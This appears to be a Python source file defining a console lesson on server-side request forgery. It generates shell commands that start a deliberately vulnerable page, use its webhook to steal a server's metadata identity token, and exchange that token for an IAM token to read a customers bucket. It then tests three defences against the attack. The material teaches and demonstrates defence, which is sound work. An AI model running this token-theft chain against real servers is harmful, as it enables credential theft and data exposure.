"""Lesson 7: a page with a hole is used to steal a server's identity, and three defences are tried on it."""

import shlex
from collections.abc import Callable

from controlplane.activity.events import COMPUTE_RESOURCE_LOGIN, IDENTITY_TOKEN_CREATE
from controlplane.activity.models import ActivityEvent
from controlplane.console.lessons.command_parts import CHOOSE_PORT, MAY_SWITCH, QUERY, address, example_path, switch_on
from controlplane.console.lessons.lesson import (
    Check,
    Command,
    Evidence,
    Finding,
    Lesson,
    LessonMessage,
    LessonRun,
    first_event,
)
from controlplane.console.lessons.shell_commands import CREATE_PROFILE, read_member
from controlplane.objectstore.events import OBJECT_READ

PAGE = "link-preview"
"""The beginning of the User-Agent of examples/ssrf/vulnerable.py, before the learner's mark."""
READ_TOKEN = read_member("access_token")


def _by_the_page(_: Evidence, event: ActivityEvent) -> bool:
    return event.initiator_agent.partition(" ")[0] == PAGE


def _of_customers(evidence: Evidence, event: ActivityEvent) -> bool:
    return event.target_name == f"{evidence.run.name}-customers"


def _page_refused(
    status: int, sentence: Callable[[ActivityEvent], str], *, after: str
) -> Callable[[Evidence], Finding | None]:
    return first_event(
        IDENTITY_TOKEN_CREATE,
        sentence,
        after=after,
        success=False,
        where=lambda evidence, event: event.reason_code == status and _by_the_page(evidence, event),
    )


def _start_page(trusting: str = "") -> str:
    """A command that starts the page in the background. It trusts the certificates of a file, or else the machine's."""
    trust = f"SSL_CERT_FILE={shlex.quote(trusting)} " if trusting else ""
    return f"{trust}timeout 30m \\\n  python3 {example_path('ssrf/vulnerable.py')} $PORT > /dev/null 2>&1 &\nPAGE=$!"


def _commands(run: LessonRun) -> list[Command]:
    name, shop = run.server.name, run.name
    store = f"{run.control_plane}/cos/{shop}"
    steal = f"webhook PUT \\\n  \"$URL/identity/v1/token?{QUERY}\" 'Metadata-Flavor: ibm'"
    use = f'{run.curl} {store}-customers/customers.csv \\\n  -H "Authorization: Bearer $IAM"; echo'
    return [
        Command(
            "Something to steal",
            f"{switch_on(name, protocol='http')}\n"
            f"python3 {example_path('ssrf/shop.py')} wide {shlex.quote(name)} {shop}",
            f"A shop: two buckets, and a trusted profile {shop} for its web server. The server needs the pages. "
            "It was given everything, as it was less work.",
            needs=CREATE_PROFILE,
        ),
        Command(
            "A page with a hole",
            f"{CHOOSE_PORT}\nURL={address(name)}\n"
            f"{_start_page()}\n"
            "webhook() {\n"
            '  curl -sG --retry 5 --retry-connrefused "http://127.0.0.1:$PORT/webhook" \\\n'
            '    --data-urlencode "method=$1" --data-urlencode "url=$2" --data-urlencode "header=$3"\n}',
            "A program on the server fetches what its visitors name: a preview of a link, a trial of a webhook. It "
            "listens on this machine alone, calls metadata services alone, and says so. Read it, it is short. Look "
            "for THE HOLE.",
        ),
        Command(
            "Steal the identity",
            f"STOLEN=$({steal} \\\n  | {READ_TOKEN})\necho ${{#STOLEN}} characters",
            "You are a visitor. You may not call the metadata service of that server; the page may. It does it for "
            "you, and shows you the answer.",
        ),
        Command(
            "Use it from elsewhere",
            f"IAM=$({run.curl} {run.control_plane}/identity/token \\\n"
            "  -d grant_type=urn:ibm:params:oauth:grant-type:cr-token \\\n"
            f'  -d cr_token="$STOLEN" -d profile_name={shop} \\\n  | {READ_TOKEN})\n{use}',
            "This part runs on your own machine. A token says who; it does not say from where. So the thief reads what "
            "the server may read: the customers.",
        ),
        Command(
            "Defence 1: method and header",
            'curl -sG "http://127.0.0.1:$PORT/preview" \\\n'
            f'  --data-urlencode "url=$URL/identity/v1/token?{QUERY}"; echo\n'
            f"webhook PUT \\\n  \"$URL/identity/v1/token?{QUERY}\" 'X-Other: ibm'; echo",
            "The preview lets you choose an address and no more, as most such holes do. It sends a GET: 405. A PUT "
            "without the header Metadata-Flavor: 400. This defence is always on. It stops every hole where a visitor "
            "chooses the address alone, and it does not stop this webhook, where they choose method and header too.",
        ),
        Command(
            "Defence 2: https",
            f"{switch_on(name, protocol='https')}\n{steal}; echo\n"
            f"SECURE={address(name)}\n{steal.replace('$URL', '$SECURE')}; echo",
            "Over http: 403. Over https the page does not believe the certificate, for it trusts the usual "
            "authorities; that leaves no trace at the service. It also stops holes that write raw bytes to a port: "
            "they can speak http, and no TLS.",
            needs=MAY_SWITCH,
        ),
        Command(
            "What defence 2 does not stop",
            f"kill $PAGE; wait $PAGE\n{_start_page(run.ca_bundle)}\n"
            f"{steal.replace('$URL', '$SECURE')} | cut -c 1-60\n{switch_on(name, protocol='http')}",
            "The same page, on a server whose programs trust the service's authority, as they do where it was set "
            "up. A page that checks no certificate at all would work too. The theft works as before. https keeps out "
            "those on the path, not those on the server.",
            needs=MAY_SWITCH,
        ),
        Command(
            "Defence 3: a smaller profile",
            f"python3 {example_path('ssrf/shop.py')} small {shlex.quote(name)} {shop}\n{use}\n"
            f'{run.curl} {store}-pages/index.html \\\n  -H "Authorization: Bearer $IAM"\nkill $PAGE',
            "The thief still has the token, and it still works: for the pages, which are public anyway. This defence "
            "stops no theft. It is the only one that holds whatever the hole is, and it counts for tokens that are "
            "already stolen, as soon as a service asks what they may do.",
            needs=CREATE_PROFILE,
        ),
    ]


LESSON = Lesson(
    slug="ssrf",
    title="Attack and defence: a page that calls for others",
    goal="Steal a server's identity through a hole in its web page, and see what each of three defences is worth.",
    why=(
        "The metadata service knows a caller by where the call comes from. So an attacker who gets a program on the "
        "server to make a call for them is taken for the server. This is server-side request forgery, SSRF. It is an "
        "old hole and a common one: every function that fetches an address which a visitor names may be one.",
        "The real fix is in the page: fetch from an allowlist of addresses only. But the platform has to reckon with "
        "pages that were not fixed. Its defences make the hole worth less.",
        "Ask of each defence what a visitor would have to control to get past it. The address alone? The method and "
        "the headers? Raw bytes? What the page trusts? A program of their own on the server gets past the first two "
        "always: for that there are only small rights, short lives, and the switch that makes every identity token "
        "of the server worthless at once.",
    ),
    parties=("Visitor", "Page on {server}", "Metadata service", "IAM, object store"),
    messages=(
        LessonMessage(0, 1, "call this for me", "stolen"),
        LessonMessage(1, 2, "PUT token, with header", "stolen"),
        LessonMessage(2, 1, "identity token", "stolen"),
        LessonMessage(1, 0, "identity token", "stolen"),
        LessonMessage(0, 3, "exchange it for an IAM token", "exchanged"),
        LessonMessage(3, 0, "the customers", "read"),
        LessonMessage(1, 2, "GET token", "get", "refused"),
        LessonMessage(1, 2, "PUT token, no header", "header", "refused"),
        LessonMessage(1, 2, "PUT over http", "https", "refused"),
        LessonMessage(1, 2, "PUT over https, trusted", "past"),
        LessonMessage(3, 0, "no customers for you", "limited", "refused"),
    ),
    commands=_commands,
    checks=(
        Check(
            "stolen",
            "Identity stolen",
            "Let the page ask for a token, by its webhook.",
            first_event(
                IDENTITY_TOKEN_CREATE,
                lambda event: f"The page asked, so {event.initiator_name} asked: it got a token.",
                where=_by_the_page,
            ),
        ),
        Check(
            "exchanged",
            "Exchanged",
            "Exchange it for an IAM token, from your own machine.",
            first_event(
                COMPUTE_RESOURCE_LOGIN,
                lambda _: "It was exchanged for an IAM token, from elsewhere: IAM does not check where it came from.",
                after="stolen",
                on_server=False,
                where=lambda evidence, event: evidence.run.server.crn in (event.initiator_id, event.target_id),
            ),
        ),
        Check(
            "read",
            "Customers read",
            "Read the customers with it.",
            first_event(
                OBJECT_READ,
                lambda event: f"{event.data['object']} was read from {event.target_name}.",
                after="exchanged",
                on_server=False,
                where=_of_customers,
            ),
        ),
        Check(
            "get",
            "Defence 1: a GET gets nothing",
            "Try it by the preview of a link.",
            _page_refused(405, lambda _: "The page sent a GET, and got 405.", after="read"),
        ),
        Check(
            "header",
            "Defence 1: no header, no token",
            "Try a PUT without the header.",
            _page_refused(
                400, lambda event: f"It sent a PUT without the header, and got 400: {event.message}", after="get"
            ),
        ),
        Check(
            "https",
            "Defence 2: not over http",
            "Set the server to https, and let the page try.",
            _page_refused(403, lambda event: f"With the service at https, it got 403: {event.message}", after="header"),
        ),
        Check(
            "past",
            "Past defence 2",
            "Let a page try that trusts the service's authority.",
            first_event(
                IDENTITY_TOKEN_CREATE,
                lambda _: "A page that trusts the service's authority got a token over https.",
                after="https",
                where=_by_the_page,
            ),
        ),
        Check(
            "limited",
            "Defence 3: worth less",
            "Make the profile smaller, use the stolen token again.",
            first_event(
                OBJECT_READ,
                lambda event: f"The same stolen token was refused at {event.target_name}.",
                after="past",
                on_server=False,
                success=False,
                where=_of_customers,
            ),
        ),
    ),
    watches=(IDENTITY_TOKEN_CREATE, COMPUTE_RESOURCE_LOGIN, OBJECT_READ),
    lab="In the lab, start the page with baremint enter, and be a visitor inside the same server: there the address is "
    "169.254.169.254, as it is in a cloud. Programs in the lab trust Baremint's authority, so there the second "
    "defence stops http alone.",
    warning="The page is vulnerable on purpose. Stop it when you are done; it stops by itself after half an hour.",
    prefers=True,
)
